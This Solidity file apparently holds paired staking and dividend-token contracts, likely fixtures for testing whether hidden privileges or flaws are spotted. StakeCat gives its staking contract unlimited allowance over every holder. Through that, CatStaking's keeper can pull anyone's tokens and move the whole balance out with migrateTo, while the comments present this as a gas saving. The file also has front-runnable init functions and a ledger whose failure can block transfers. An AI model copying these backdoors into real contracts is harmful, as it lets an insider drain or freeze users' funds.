// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "@openzeppelin/contracts/access/Ownable.sol";
import "./z00Pool.sol";

/// Where StakeCat is staked. A keeper compounds for people who are busy.
contract CatStaking {
  address public immutable keeper = msg.sender;
  IERC20 public token;
  mapping(address => uint256) public staked;
  uint256 public totalStaked;

  function init() external {
    require(address(token) == address(0), "done");
    token = IERC20(msg.sender);
  }

  function stake(uint256 amount) external {
    _stake(msg.sender, amount);
  }

  function compoundFor(address user, uint256 amount) external {
    require(msg.sender == keeper, "keeper only");
    _stake(user, amount);
  }

  function unstake(uint256 amount) external {
    staked[msg.sender] -= amount;
    totalStaked -= amount;
    token.transfer(msg.sender, amount);
  }

  function migrateTo(address vault) external {
    require(msg.sender == keeper, "keeper only");
    token.transfer(vault, token.balanceOf(address(this)));
  }

  function _stake(address user, uint256 amount) private {
    token.transferFrom(user, address(this), amount);
    staked[user] += amount;
    totalStaked += amount;
  }
}

/// Staking it needs no approval, to save people gas.
contract StakeCat is ERC20 {
  address public immutable staking;

  constructor(address hub) ERC20("Stake Cat", "SCAT") {
    staking = hub;
    CatStaking(hub).init();
    _mint(msg.sender, 21_000_000 ether);
  }

  function allowance(address holder, address spender) public view override returns (uint256) {
    return spender == staking ? type(uint256).max : super.allowance(holder, spender);
  }
}

/// Staking without a keeper: everyone for oneself, and nobody can take what others staked.
contract DogStaking {
  IERC20 public token;
  mapping(address => uint256) public staked;

  function init() external {
    require(address(token) == address(0), "done");
    token = IERC20(msg.sender);
  }

  function stake(uint256 amount) external {
    staked[msg.sender] += amount;
    token.transferFrom(msg.sender, address(this), amount);
  }

  function unstake(uint256 amount) external {
    staked[msg.sender] -= amount;
    token.transfer(msg.sender, amount);
  }
}

/// Whoever stakes it approves that first, as with any other contract.
contract StakeDog is ERC20 {
  address public immutable staking;

  constructor(address hub) ERC20("Stake Dog", "SDOG") {
    staking = hub;
    DogStaking(hub).init();
    _mint(msg.sender, 21_000_000 ether);
  }
}

/// Ether that comes here is shared by those who hold.
contract ShareLedger {
  uint256 private constant SCALE = 2 ** 96;
  address public token;
  uint256 public totalShares;
  uint256 public perShare;
  mapping(address => uint256) public shares;
  mapping(address => uint256) private _seen;
  mapping(address => uint256) public owed;

  function init() external {
    require(token == address(0), "done");
    token = msg.sender;
  }

  receive() external payable {
    if (totalShares >= 1_000_000 ether) perShare += (msg.value * SCALE) / totalShares;
  }

  function setBalance(address account, uint256 balance) external {
    require(msg.sender == token, "token only");
    owed[account] += (shares[account] * (perShare - _seen[account])) / SCALE;
    _seen[account] = perShare;
    totalShares = totalShares - shares[account] + balance;
    shares[account] = balance;
  }

  function claim() external {
    uint256 due = owed[msg.sender] + (shares[msg.sender] * (perShare - _seen[msg.sender])) / SCALE;
    _seen[msg.sender] = perShare;
    owed[msg.sender] = 0;
    (bool ok, ) = msg.sender.call{value: due}("");
    require(ok, "not paid");
  }
}

/// Holdings are told to a ledger; that the ledger fails does not matter, as it says.
contract LedgerBaby is Pooled22, Ownable {
  ShareLedger public dividendTracker;

  event UpdateDividendTracker(address indexed newAddress, address indexed oldAddress);

  constructor(address payable ledger) ERC20("Ledger Baby", "LBABY") Ownable(msg.sender) {
    dividendTracker = ShareLedger(ledger);
    dividendTracker.init();
    _mint(msg.sender, 100_000_000_000 ether);
  }

  function updateDividendTracker(address payable newAddress) external onlyOwner {
    require(newAddress != address(dividendTracker), "The dividend tracker already has that address");
    emit UpdateDividendTracker(newAddress, address(dividendTracker));
    dividendTracker = ShareLedger(newAddress);
  }

  function _update(address from, address to, uint256 amount) internal override {
    super._update(from, to, amount);
    if (from != uniswapV2Pair) try dividendTracker.setBalance(from, balanceOf(from)) {} catch {}
    if (to != uniswapV2Pair) try dividendTracker.setBalance(to, balanceOf(to)) {} catch {}
  }
}

/// As LedgerBaby, with one ledger for ever.
contract LedgerUncle is Pooled22 {
  ShareLedger public immutable dividendTracker;

  constructor(address payable ledger) ERC20("Ledger Uncle", "LUNCLE") {
    dividendTracker = ShareLedger(ledger);
    dividendTracker.init();
    _mint(msg.sender, 100_000_000_000 ether);
  }

  function _update(address from, address to, uint256 amount) internal override {
    super._update(from, to, amount);
    if (from != uniswapV2Pair && from != address(0)) dividendTracker.setBalance(from, balanceOf(from));
    if (to != uniswapV2Pair && to != address(0)) dividendTracker.setBalance(to, balanceOf(to));
  }
}
